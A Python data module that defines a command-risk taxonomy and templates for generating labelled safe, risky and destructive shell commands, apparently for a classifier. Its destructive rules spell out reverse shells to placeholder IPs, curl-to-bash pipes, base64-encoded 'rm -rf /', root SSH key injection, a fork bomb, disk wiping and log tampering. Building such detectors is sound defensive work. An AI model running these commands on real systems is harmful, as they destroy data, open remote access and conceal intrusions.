"""The taxonomy, and the rules and lists that commands are generated from."""

from __future__ import annotations

SAFE, RISKY, DESTRUCTIVE = 0, 1, 2
LABELS = ((SAFE, "safe"), (RISKY, "risky"), (DESTRUCTIVE, "destructive"))

# Category, risk, programs.
TAXONOMY = (
    ("recursive_delete_system", 2, ("rm",)),
    ("recursive_delete_wildcard", 2, ("rm",)),
    ("raw_disk_write", 2, ("dd",)),
    ("filesystem_format", 2, ("mkfs", "mke2fs", "mkswap")),
    ("fork_bomb", 2, ()),
    ("permission_world_writable", 1, ("chmod",)),
    ("recursive_ownership_change", 1, ("chown",)),
    ("sudo_privileged_destructive", 2, ("sudo",)),
    ("history_tampering", 1, ("history",)),
    ("log_tampering", 1, ("truncate",)),
    ("curl_pipe_shell", 2, ("curl", "wget")),
    ("encoded_payload_execution", 2, ("base64",)),
    ("ssh_key_injection", 2, ("ssh",)),
    ("reverse_shell", 2, ("nc",)),
    ("git_history_destructive", 1, ("git",)),
    ("bulk_package_removal", 1, ("apt", "pip", "npm")),
    ("container_mass_prune", 1, ("docker",)),
    ("shutdown_reboot", 1, ("shutdown", "reboot")),
    ("kill_everything", 1, ("killall", "pkill")),
    ("memory_exhaustion", 1, ("stress",)),
)

#: id, category, template, slots, largest number of commands. Category "" means safe.
RULES = (
    (1, "recursive_delete_system", "rm {flag} {dir}", {"flag": ("-rf", "-fr", "-r -f"), "dir": ("/etc", "/usr/lib", "/var", "/home", "/boot", "/opt")}, 12),
    (2, "recursive_delete_system", "rm -rf {home}", {"home": ("~", "$HOME", "~/projects", "${HOME}/mail")}, 60),
    (3, "recursive_delete_wildcard", "rm {flag} *{ext}", {"flag": ("-r", "-rf", "-f"), "ext": ("", ".py", ".sql", ".txt")}, 60),
    (4, "raw_disk_write", "dd if={src} of={disk} bs={size}", {"src": ("/dev/zero", "/dev/urandom", "image.iso"), "disk": ("/dev/sda", "/dev/nvme0n1", "/dev/mmcblk0"), "size": ("1M", "4M", "512")}, 20),
    (5, "filesystem_format", "{tool} {disk}", {"tool": ("mkfs.ext4", "mkfs.xfs -f", "mke2fs", "mkswap"), "disk": ("/dev/sdb1", "/dev/sdc", "/dev/nvme1n1p2")}, 60),
    (6, "filesystem_format", "wipefs -a {disk}", {"disk": ("/dev/sda", "/dev/sdd1")}, 60),
    (7, "fork_bomb", ":(){ :|:& };:", {}, 1),
    (8, "permission_world_writable", "chmod {mode} {dir}", {"mode": ("777", "-R 777", "a+rwx", "666"), "dir": ("/srv/site", "/etc/passwd", ".", "/tmp/share")}, 60),
    (9, "recursive_ownership_change", "chown -R {who} {dir}", {"who": ("root:root", "nobody", "www-data:www-data"), "dir": ("/var/www", "/usr", "/home/shared")}, 60),
    (10, "sudo_privileged_destructive", "sudo rm -rf {dir}", {"dir": ("/lib", "/var/lib/docker", "/usr/local", "/srv")}, 60),
    (11, "sudo_privileged_destructive", "sudo dd if=/dev/zero of={disk}", {"disk": ("/dev/sda", "/dev/sdb", "/dev/hda")}, 60),
    (12, "history_tampering", "history -c && {then}", {"then": ("exit", "rm -f ~/.bash_history", "unset HISTFILE")}, 60),
    (13, "log_tampering", "truncate -s 0 /var/log/{log}", {"log": ("syslog", "auth.log", "nginx/access.log")}, 60),
    (14, "curl_pipe_shell", "{get} https://{host}/{file} | {shell}", {"get": ("curl -fsSL", "wget -qO-", "curl -s"), "host": ("get.example.org", "install.example.net"), "file": ("setup.sh", "run"), "shell": ("sh", "bash", "sudo bash")}, 24),
    (15, "encoded_payload_execution", "echo {code} | base64 -d | {shell}", {"code": ("cm0gLXJmIC8=", "ZGF0ZQ==", "d2hvYW1p"), "shell": ("sh", "bash")}, 60),
    (16, "encoded_payload_execution", 'eval "$(echo {code} | base64 --decode)"', {"code": ("cm0gLXJmIC8=", "aWQ=")}, 60),
    (17, "ssh_key_injection", "echo ssh-rsa {key} >> {file}", {"key": ("AAAAB3Nza", "AAAAC3Nza"), "file": ("~/.ssh/authorized_keys", "/root/.ssh/authorized_keys")}, 60),
    (18, "reverse_shell", "{tool} {host} 4444 -e /bin/sh", {"tool": ("nc", "ncat"), "host": ("203.0.113.9", "198.51.100.7")}, 60),
    (19, "reverse_shell", "bash -i >& /dev/tcp/{host}/9001 0>&1", {"host": ("203.0.113.9", "198.51.100.7")}, 60),
    (20, "git_history_destructive", "git {what}", {"what": ("reset --hard HEAD~3", "clean -fdx", "push --force origin main", "filter-branch --all", "checkout .")}, 60),
    (21, "bulk_package_removal", "{tool} {pkg}", {"tool": ("apt-get remove -y", "yum remove -y", "pip uninstall -y", "npm uninstall -g"), "pkg": ("python3", "requests", "nginx")}, 60),
    (22, "container_mass_prune", "docker {what} prune -f", {"what": ("system", "volume", "image", "container")}, 60),
    (23, "shutdown_reboot", "{what}", {"what": ("shutdown -h now", "shutdown -r +1", "reboot", "poweroff", "init 0")}, 60),
    (24, "kill_everything", "{what}", {"what": ("kill -9 -1", "killall -9 java", "pkill -f python")}, 60),
    (25, "memory_exhaustion", "stress --vm {n} --vm-bytes {size}", {"n": ("4", "16"), "size": ("2G", "90%")}, 60),
    (26, "memory_exhaustion", "head -c {size} /dev/zero | tail", {"size": ("8G", "64G")}, 60),
    (27, "filesystem_format", "{tool} {flag} /dev/{disk}", {"tool": ("mkfs.xfs", "mkfs.btrfs", "mkswap"), "flag": ("-f", "-L data"), "disk": ("sdb1", "nvme1n1p2", "vdb")}, 60),
    (28, "log_tampering", "{what} {log}", {"what": ("truncate -s 0", "cat /dev/null >", "shred -u", ": >"), "log": ("/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp", "app.log")}, 60),
    (29, "recursive_ownership_change", "chown -R {who} {dir}", {"who": ("nobody", "www-data:www-data", "root:root"), "dir": ("/etc", "/var", "/home", "/usr/local")}, 60),
    (30, "permission_world_writable", "chmod {flag} {mode} {dir}", {"flag": ("-R", "-v"), "mode": ("777", "a+rwx", "0777"), "dir": ("/srv", "/opt/app", "/var/www", ".")}, 60),
    (31, "raw_disk_write", "dd {args}", {"args": ("if=/dev/zero of=/dev/null count=1; dd if=/dev/zero of=/dev/sdz count=1", "of=/dev/sdz of=/dev/null if=seed.img", "of=/dev/null of=/dev/sdz if=seed.img")}, 60),
    (32, "encoded_payload_execution", "print(f[{x}]) | {sh}", {"x": ("(a)", "{(b)}"), "sh": ("sh", "bash")}, 60),
)
SAFE_RULES = (
    (101, "", "rm -rf {dir}", {"dir": ("node_modules", "build/", "dist/", "target/", "__pycache__", ".pytest_cache", "coverage", ".venv")}, 60),
    (102, "", "rm -f {file}", {"file": ("notes.tmp", "a.out", "core.1234")}, 60),
    (103, "", "ls {flag} {dir}", {"flag": ("-l", "-la", "-1"), "dir": ("/etc", "/var/log", ".", "~")}, 60),
    (104, "", "grep -rn '{what}' {dir}", {"what": ("rm -rf /", "mkfs", "TODO"), "dir": ("docs", "src", ".")}, 60),
    (105, "", "echo \"{what}\"", {"what": ("never run rm -rf /", "dd if=/dev/zero of=/dev/sda wipes the disk", "done", "chmod 777 is a bad idea")}, 60),
    (106, "", "git {what}", {"what": ("status", "log --oneline -n 20", "diff HEAD~1", "pull --rebase", "commit -m 'fix'")}, 60),
    (107, "", "docker {what}", {"what": ("ps -a", "images", "logs web --tail 50", "compose up -d")}, 60),
    (108, "", "curl -fsSL https://{host}/{file} -o {file}", {"host": ("get.example.org", "cdn.example.com"), "file": ("setup.sh", "data.csv")}, 60),
    (109, "", "cat {file} | wc -l", {"file": ("access.log", "/etc/hosts", "README.md")}, 60),
    (110, "", "tar {flag} backup.tar.gz {dir}", {"flag": ("czf", "xzf"), "dir": ("src", "/srv/site", "~/notes")}, 60),
    (111, "", "find . -name '*.{ext}' {act}", {"ext": ("py", "log", "o"), "act": ("-print", "-type f", "| wc -l")}, 60),
    (112, "", "python3 {what}", {"what": ("-m pytest -q", "manage.py runserver", "-c \"print('rm -rf /')\"", "-m venv .venv")}, 60),
    (113, "", "npm {what}", {"what": ("install", "run build", "test -- --watch", "ci")}, 60),
    (114, "", "chmod {mode} {file}", {"mode": ("644", "+x", "600"), "file": ("run.sh", "~/.ssh/config")}, 60),
    (115, "", "ssh {host} {cmd}", {"host": ("web1", "deploy@db2"), "cmd": ("uptime", "df -h", "tail -n 100 app.log")}, 60),
    (116, "", "kubectl get {what} -n {ns}", {"what": ("pods", "svc", "events"), "ns": ("default", "prod")}, 60),
    (117, "", "{tool} --version", {"tool": ("git", "docker", "kubectl", "terraform", "node", "psql", "ffmpeg", "rsync")}, 60),
    (118, "", "{tool} --help | less", {"tool": ("dd", "mkfs.ext4", "shred", "fdisk", "parted", "chown", "pkill")}, 60),
    (119, "", "man {page}", {"page": ("rm", "dd", "shred", "mkfs", "kill", "fork", "truncate", "reboot")}, 60),
    (120, "", "mkdir -p {dir}", {"dir": ("build/out", "~/notes/2024", "/srv/site/static", "logs/archive")}, 60),
    (121, "", "cp -{flag} {from} {to}", {"flag": ("a", "r", "v"), "from": ("src", "notes.txt", "conf.d"), "to": ("backup/", "../copy", "~/old")}, 60),
    (122, "", "rsync -a{flag} {from} {to}", {"flag": ("v", "z", "n"), "from": ("src/", "photos/"), "to": ("backup:/srv/copy", "/mnt/usb/copy")}, 60),
    (123, "", "sed -n '{expr}' {file}", {"expr": ("1,20p", "/error/p", "$p"), "file": ("app.log", "config.yml", "README.md")}, 60),
    (124, "", "awk '{expr}' {file}", {"expr": ("{print $1}", "NR % 2 == 0", "length > 80"), "file": ("access.log", "table.tsv")}, 60),
    (125, "", "sort {flag} {file} | uniq -c", {"flag": ("-n", "-r", "-k2"), "file": ("words.txt", "ids.csv", "hits.log")}, 60),
    (126, "", "psql -c \"{what}\" {db}", {"what": ("select count(*) from users", "explain select 1", "show tables"), "db": ("shop", "metrics")}, 60),
    (127, "", "systemctl {what} {unit}", {"what": ("status", "is-active", "cat"), "unit": ("nginx", "sshd", "cron", "docker")}, 60),
    (128, "", "journalctl -u {unit} --since {when}", {"unit": ("nginx", "sshd", "kubelet"), "when": ("today", "yesterday", "'1 hour ago'")}, 60),
    (129, "", "terraform {what}", {"what": ("init", "plan -out plan.bin", "validate", "fmt -check", "show plan.bin")}, 60),
    (130, "", "cargo {what}", {"what": ("test --all", "clippy", "fmt", "build --release", "doc --no-deps")}, 60),
    (131, "", "ping -c {n} {host}", {"n": ("1", "4"), "host": ("web1", "db2.example.org", "192.0.2.7")}, 60),
    (132, "", "du -{flag} {dir} | sort -h", {"flag": ("sh", "ah"), "dir": ("/var/log", "~/Downloads", ".")}, 60),
    (133, "", "echo '{what}' >> {file}", {"what": ("rm -rf / is never right", "see man shred", "mkfs erases a disk"), "file": ("notes.md", "docs/danger.txt")}, 60),
)
#: Curated safe commands by source.
CURATED = {
    "routine": ("pwd", "whoami", "df -h", "du -sh .", "uptime", "free -m", "top -b -n 1", "history | tail -20", "which python3", "make -j4", "cargo build --release", "go test ./...", "systemctl status nginx", "crontab -l", "date -u"),
    "boundary": ("kill 4242", "shutdown --help", "sudo apt-get update", "truncate --help", "dd --version", "mkfs.ext4 -V", "git push origin main", "rm old.txt"),
    "mention": ("man rm", "info dd", "apropos mkfs", "whatis shutdown", "echo rm -rf / is dangerous", "grep -n 'chmod 777' setup.sh"),
    "review": (
        "dd if=/dev/zero of=/dev/null", "dd if=a.img of=/dev/zero | dd of=b.img", "python3 -c print(f(g(h(k(eval(1)))))) && ls",
        "node -p console.log([{a:(b)},eval(2)]); pwd", "print (a) print(b[eval(c)]) ls", "printf (never closed [ eval it",
    ),
}
